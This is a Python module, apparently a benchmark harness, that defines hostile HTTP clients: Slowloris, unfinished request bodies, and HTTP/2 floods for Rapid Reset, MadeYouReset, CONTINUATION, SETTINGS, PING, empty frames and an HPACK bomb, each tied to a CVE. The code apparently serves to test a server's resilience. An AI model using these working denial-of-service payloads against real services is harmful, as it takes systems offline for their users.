"""Hostile clients of HTTP/1.1 and HTTP/2."""

from __future__ import annotations

import contextlib
import time
from typing import TYPE_CHECKING

from benchmarks.hostile import words
from benchmarks.hostile.stream_attacks import hold, many, over_and_over

if TYPE_CHECKING:
    from collections.abc import Callable

    from benchmarks.hostile.stream_attacks import Attack
    from benchmarks.hostile.streams import Listener, Stream

REQUEST = words.END_STREAM | words.END_HEADERS


def slow_bodies(listener: Listener, end: float) -> None:
    """Begin bodies of a megabyte, and leave them without their last byte."""
    body = b"POST /v1/x HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n" + bytes(999_999)
    hold(end, many(listener, end, body))


def slow_heads(listener: Listener, end: float) -> None:
    """Send a byte of a head now and then (Slowloris)."""
    kept = many(listener, end, b"GET / HTTP/1.1\r\nHost: a\r\n")
    while time.monotonic() < end:
        for stream in kept:
            with contextlib.suppress(OSError):
                stream.say(b"X")
        time.sleep(0.2)
    hold(end, kept)


def game(play: Callable[[int], bytes]) -> Attack:
    """Make an attack of what is said behind the preface; the number counts streams."""

    def attack(listener: Listener, end: float) -> None:
        streams: dict[int, int] = {}

        def behind_preface(stream: Stream) -> None:
            number = streams.get(id(stream))
            if number is None:
                streams.clear()
                number = 1
                stream.say(words.PREFACE + words.frame(words.SETTINGS, 0, 0))
            stream.say(b"".join(play(number + 2 * step) for step in range(100)))
            streams[id(stream)] = number + 200

        over_and_over(listener, end, behind_preface)

    return attack


def rapid_reset(number: int) -> bytes:
    """Ask and give up at once (CVE-2023-44487)."""
    ask = words.frame(words.HEADERS, REQUEST, number, words.GET)
    return ask + words.frame(words.RST_STREAM, 0, number, b"\0\0\0\x08")


def made_you_reset(number: int) -> bytes:
    """Ask, and have the server give up (CVE-2025-8671)."""
    ask = words.frame(words.HEADERS, REQUEST, number, words.GET)
    # A window beyond 31 bits is an error of the stream.
    return ask + words.frame(words.WINDOW_UPDATE, 0, number, b"\x7f\xff\xff\xff")


def continuation(number: int) -> bytes:
    """Send a head that never ends (CVE-2024-27316 and others)."""
    if number == 1:
        return words.frame(words.HEADERS, words.END_STREAM, 1, words.GET)
    return words.frame(words.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)


def settings(_: int) -> bytes:
    """Send SETTINGS, each of which is to be acknowledged (CVE-2019-9515)."""
    return words.frame(words.SETTINGS, 0, 0) * 20


def ping(_: int) -> bytes:
    """Send PING, each of which is to be answered (CVE-2019-9512)."""
    return words.frame(words.PING, 0, 0, bytes(8)) * 20


def empty_frames(number: int) -> bytes:
    """Send frames of data that are empty (CVE-2019-9518)."""
    if number == 1:
        return words.frame(words.HEADERS, words.END_HEADERS, 1, b"\x83" + words.GET[1:])
    return words.frame(words.DATA, 0, 1) * 20


def hpack_bomb(number: int) -> bytes:
    """Put a long field into the table once, and name it thousands of times (CVE-2016-6581)."""
    field = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"x" * 4_000 if number == 1 else b""
    named = field + b"\xbe" * 2_000
    return words.frame(words.HEADERS, REQUEST, number, words.GET + named)


HTTP_1: dict[str, Attack] = {
    "bodies without an end": slow_bodies,
    "heads without an end (Slowloris)": slow_heads,
}
"""Of HTTP/1.1."""

HTTP_2: dict[str, Attack] = {
    "Rapid Reset (CVE-2023-44487)": game(rapid_reset),
    "MadeYouReset (CVE-2025-8671)": game(made_you_reset),
    "CONTINUATION flood (CVE-2024-27316)": game(continuation),
    "SETTINGS flood (CVE-2019-9515)": game(settings),
    "PING flood (CVE-2019-9512)": game(ping),
    "empty frames (CVE-2019-9518)": game(empty_frames),
    "HPACK bomb (CVE-2016-6581)": game(hpack_bomb),
}
"""Of HTTP/2."""
